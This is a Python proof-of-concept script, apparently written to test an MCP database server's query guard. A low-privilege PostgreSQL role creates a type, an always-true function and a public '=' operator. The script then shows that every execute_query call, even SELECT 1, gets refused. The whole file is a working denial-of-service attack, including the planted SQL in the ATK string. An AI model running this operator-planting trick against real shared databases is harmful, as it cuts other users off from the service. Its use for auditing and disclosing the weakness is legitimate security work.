"""One CREATE OPERATOR by the low-privilege role, on a type of its own, makes every
execute_query refused, `SELECT 1` included (the guard attributes it to asyncpg's type lookup).
Usage: dos_planted_eq.py [reader|postgres]"""
import asyncio
import json
import sys

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect

ATK = r"""
DROP TYPE IF EXISTS atk.mine CASCADE;
CREATE TYPE atk.mine AS (x int);
CREATE FUNCTION atk.mine_eq(atk.mine, atk.mine) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT true';
CREATE OPERATOR public.= (LEFTARG = atk.mine, RIGHTARG = atk.mine, FUNCTION = atk.mine_eq);
"""

async def main(role: str) -> None:
    atk = await asyncpg.connect(as_role("attacker"))
    try:
        async with connect(DSN if role == "postgres" else as_role(role)) as c:
            ok, body = await tool(c, "execute_query", sql="SELECT 1 AS one")
            print("before:", ok, json.dumps(body.get("error", body.get("rows")))[:200])
            await atk.execute(ATK)
            for sql in ["SELECT 1 AS one", "SELECT id FROM items"]:
                ok, body = await tool(c, "execute_query", sql=sql)
                print("after:", sql, ok, json.dumps(body.get("error", body.get("rows")))[:300])
    finally:
        await atk.execute("DROP TYPE IF EXISTS atk.mine CASCADE"); await atk.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader"))
